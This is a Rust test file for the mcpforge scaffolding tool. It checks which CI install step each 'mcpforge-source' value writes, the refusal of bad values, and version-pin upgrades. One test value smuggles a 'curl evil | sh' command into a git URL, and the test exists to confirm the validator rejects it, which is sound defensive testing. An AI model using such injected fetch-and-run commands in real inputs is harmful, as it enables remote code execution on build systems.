//! Where a `service` project's CI gets mcpforge: the `mcpforge-source` answer (`new
//! --mcpforge-source`, `upgrade --set mcpforge-source=…`), the install step each form writes, the
//! refusal of a bad value, and the version pin that `upgrade` moves.

use std::path::Path;

use mcpforge::project::{MANIFEST_FILE, ProjectManifest};
use mcpforge::template;

use crate::support::{assert_refused_in, mcpforge, snapshot_tree};

const WORKFLOW: &str = ".github/workflows/ci.yml";
const VERSION: &str = env!("CARGO_PKG_VERSION");
const GIT: &str = "git+https://git.example.com/platform/mcpforge.git";
const ARCHIVE: &str = "https://releases.example.com/mcpforge/v{version}/mcpforge-{target}.tar.gz";

fn read(root: &Path, rel: &str) -> String {
    std::fs::read_to_string(root.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

fn manifest(root: &Path) -> ProjectManifest {
    ProjectManifest::parse(&read(root, MANIFEST_FILE), &root.join(MANIFEST_FILE)).unwrap()
}

fn recorded_source(root: &Path) -> String {
    manifest(root)
        .answers
        .text("mcpforge-source")
        .expect("`mcpforge-source` is recorded")
        .to_string()
}

/// The platform job's install step: from its `- name: Install mcpforge` line to the next step.
fn install_step(workflow: &str) -> String {
    let start = workflow
        .find("      - name: Install mcpforge")
        .expect("an install step");
    let rest = &workflow[start..];
    let end = rest[1..]
        .find("      - name: ")
        .map_or(rest.len(), |i| i + 1);
    rest[..end].to_string()
}

fn new_service(dir: &Path, name: &str, source: Option<&str>) -> std::path::PathBuf {
    let mut cmd = mcpforge(dir);
    cmd.args([
        "new",
        name,
        "--name",
        "demo",
        "--template",
        "service",
        "--yes",
    ]);
    if let Some(source) = source {
        cmd.args(["--mcpforge-source", source]);
    }
    cmd.assert().success();
    dir.join(name)
}

#[test]
fn each_source_is_recorded_and_writes_its_install_step_pinned_to_this_mcpforge() {
    let tmp = tempfile::tempdir().unwrap();
    let pin = format!("  MCPFORGE_VERSION: \"{VERSION}\"\n");

    let root = new_service(tmp.path(), "default", None);
    assert_eq!(recorded_source(&root), "crates-io");
    let workflow = read(&root, WORKFLOW);
    assert!(workflow.contains(&pin), "{workflow}");
    assert!(!workflow.contains("MCPFORGE_INSTALL"));
    assert_eq!(
        install_step(&workflow),
        "      - name: Install mcpforge from crates.io\n        \
         run: cargo install --locked \"mcpforge@$MCPFORGE_VERSION\"\n"
    );

    let root = new_service(tmp.path(), "from-registry", Some("registry:acme"));
    assert_eq!(recorded_source(&root), "registry:acme");
    assert_eq!(
        install_step(&read(&root, WORKFLOW)),
        "      - name: Install mcpforge from the acme registry\n        \
         # The registry's index comes from .cargo/config.toml ([registries]) or CARGO_REGISTRIES_*.\n        \
         run: cargo install --locked --registry acme \"mcpforge@$MCPFORGE_VERSION\"\n"
    );

    let root = new_service(tmp.path(), "from-git", Some(GIT));
    assert_eq!(recorded_source(&root), GIT);
    let workflow = read(&root, WORKFLOW);
    assert!(workflow.contains(&pin));
    assert_eq!(
        install_step(&workflow),
        "      - name: Install mcpforge from its git repository\n        \
         env:\n          \
         MCPFORGE_GIT: \"https://git.example.com/platform/mcpforge.git\"\n        \
         run: cargo install --locked --git \"$MCPFORGE_GIT\" --tag \"v$MCPFORGE_VERSION\" mcpforge\n"
    );

    let root = new_service(tmp.path(), "from-archive", Some(ARCHIVE));
    assert_eq!(recorded_source(&root), ARCHIVE);
    let workflow = read(&root, WORKFLOW);
    assert!(workflow.contains(&pin));
    let step = install_step(&workflow);
    for line in [
        "      - name: Install mcpforge from a release archive (SHA-256 checked)\n",
        &format!("          MCPFORGE_URL: \"{ARCHIVE}\"\n"),
        "          target=\"$(uname -m)-unknown-linux-gnu\"\n",
        "          url=${MCPFORGE_URL//\"{version}\"/$MCPFORGE_VERSION}\n",
        "\"$url.sha256\"\n",
        "| sha256sum --check --strict\n",
        "          echo \"$dir\" >> \"$GITHUB_PATH\"\n",
    ] {
        assert!(step.contains(line), "no `{line}` in:\n{step}");
    }
    // The archive's layout and checksum file are those of mcpforge's own release workflow.
    let release = read(
        &crate::support::repo_root(),
        ".github/workflows/release.yml",
    );
    assert!(release.contains("name=\"mcpforge-$TARGET\""));
    assert!(release.contains("archive=\"$name.tar.gz\""));
    assert!(release.contains("sha256sum \"$archive\" > \"$archive.sha256\""));
    assert!(step.contains("--strip-components=1"));

    // Only the install step differs between the projects' workflows.
    let default = read(&tmp.path().join("default"), WORKFLOW);
    let strip = |w: &str| w.replace(&install_step(w), "");
    assert_eq!(strip(&workflow), strip(&default));
}

#[test]
fn a_bad_source_exits_2_naming_the_flag_and_writes_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    for (value, message) in [
        (
            "http://releases.example.com/mcpforge-{version}.tar.gz",
            "error: `--mcpforge-source` must use https://",
        ),
        (
            "https://releases.example.com/mcpforge-latest.tar.gz",
            "error: `--mcpforge-source` needs `{version}` in the URL",
        ),
        (
            "git+https://h/r.git\"; curl evil | sh",
            "error: `--mcpforge-source` contains `\\\"`",
        ),
        (
            "registry:acme corp",
            "error: `--mcpforge-source` contains a space",
        ),
        (
            "registry:",
            "error: `--mcpforge-source` takes a Cargo registry name",
        ),
        (
            "cratesio",
            "error: `--mcpforge-source` must be `crates-io`, `registry:<name>`, a `git+` URL or an \
             https:// archive URL, not `cratesio`",
        ),
    ] {
        assert_refused_in(
            tmp.path(),
            tmp.path(),
            &[
                "new",
                "p",
                "--template",
                "service",
                "--yes",
                "--mcpforge-source",
                value,
            ],
            2,
            message,
        );
    }
    // The help names the forms.
    mcpforge(tmp.path())
        .args(["new", "p", "--yes", "--mcpforge-source", "svn://x"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "help: use `crates-io`, `registry:<name>` (a registry in .cargo/config.toml), \
             `git+https://<host>/<repository>`",
        ));
    // `minimal` has no CI workflow, so no such question.
    assert_refused_in(
        tmp.path(),
        tmp.path(),
        &[
            "new",
            "p",
            "--template",
            "minimal",
            "--yes",
            "--mcpforge-source",
            "crates-io",
        ],
        2,
        "`--mcpforge-source` is not an option of template `minimal`",
    );
    assert!(snapshot_tree(tmp.path()).is_empty());
}

/// A project that an older mcpforge (0.0.9) generated at service 0.4.0, before the question.
fn generated_by_an_older_mcpforge(root: &Path) {
    let old = template::history::load("service", "0.4.0").unwrap();
    let given = [("name".to_string(), "weather".to_string())];
    let answers = template::resolve_answers(&old.manifest, &given, None, None).unwrap();
    let rendered = template::render_as(&old, &answers, "0.0.9").unwrap();
    for (path, bytes) in &rendered.files {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
}

#[test]
fn upgrading_from_0_4_0_records_the_default_and_moves_the_pin() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("weather");
    generated_by_an_older_mcpforge(&root);
    assert_eq!(manifest(&root).generated_by, "mcpforge 0.0.9");
    assert!(read(&root, WORKFLOW).contains("MCPFORGE_INSTALL: \"mcpforge@0.0.9\""));

    mcpforge(&root)
        .args(["upgrade", "--allow-dirty"])
        .assert()
        .success();
    let upgraded = manifest(&root);
    assert_eq!(
        upgraded.template_version,
        template::find("service").unwrap().version()
    );
    assert_eq!(upgraded.generated_by, format!("mcpforge {VERSION}"));
    assert_eq!(recorded_source(&root), "crates-io");
    // Every file as `new` renders it today with the features the upgrade chose (those 0.4.0
    // compiled in): the pin (workflow, README) moved, no conflict.
    let features = upgraded.answers.get("features").unwrap().to_string();
    let fresh = tmp.path().join("fresh");
    mcpforge(tmp.path())
        .args([
            "new",
            "fresh",
            "--name",
            "weather",
            "--template",
            "service",
            "--features",
            &features,
            "--yes",
        ])
        .assert()
        .success();
    // Files the team owned at 0.4.0 (its examples, its middleware) are never merged, only
    // migrated, so they keep 0.4.0's content.
    let old = template::history::load("service", "0.4.0").unwrap();
    let (upgraded, fresh) = (snapshot_tree(&root), snapshot_tree(&fresh));
    for (path, bytes) in &fresh {
        let rel = path.to_string_lossy().replace('\\', "/");
        if path.as_os_str() != MANIFEST_FILE && old.manifest.owner_of(&rel) != template::Owner::Team
        {
            assert_eq!(
                upgraded.get(path).map(|b| String::from_utf8_lossy(b)),
                Some(String::from_utf8_lossy(bytes)),
                "{}",
                path.display()
            );
        }
    }
    assert!(read(&root, WORKFLOW).contains(&format!("MCPFORGE_VERSION: \"{VERSION}\"")));

    // The answer changes like any other, and the workflow follows.
    mcpforge(&root)
        .args([
            "upgrade",
            "--allow-dirty",
            "--set",
            &format!("mcpforge-source={ARCHIVE}"),
        ])
        .assert()
        .success();
    assert_eq!(recorded_source(&root), ARCHIVE);
    assert!(install_step(&read(&root, WORKFLOW)).contains(&format!("MCPFORGE_URL: \"{ARCHIVE}\"")));
    assert_refused_in(
        &root,
        &root,
        &[
            "upgrade",
            "--allow-dirty",
            "--set",
            "mcpforge-source=ftp://x/{version}.tar.gz",
        ],
        2,
        "`--set mcpforge-source=…`: the value must be `crates-io`",
    );
}

#[test]
fn a_newer_mcpforge_moves_the_pin_at_the_same_template_version() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("weather");
    let current = template::find("service").unwrap();
    let given = [("name".to_string(), "weather".to_string())];
    let answers = template::resolve_answers(&current.manifest, &given, None, None).unwrap();
    for (path, bytes) in &template::render_as(current, &answers, "0.0.9")
        .unwrap()
        .files
    {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
    mcpforge(&root)
        .args(["upgrade", "--dry-run"])
        .assert()
        .success()
        .stderr(predicates::str::contains(format!(
            "Would upgrade service {} (as mcpforge {VERSION})",
            current.version()
        )))
        .stdout(predicates::str::contains(format!(
            "-  MCPFORGE_VERSION: \"0.0.9\"\n+  MCPFORGE_VERSION: \"{VERSION}\"\n"
        )));
    mcpforge(&root)
        .args(["upgrade", "--allow-dirty"])
        .assert()
        .success();
    assert!(read(&root, WORKFLOW).contains(&format!("MCPFORGE_VERSION: \"{VERSION}\"")));
    assert_eq!(manifest(&root).generated_by, format!("mcpforge {VERSION}"));
}
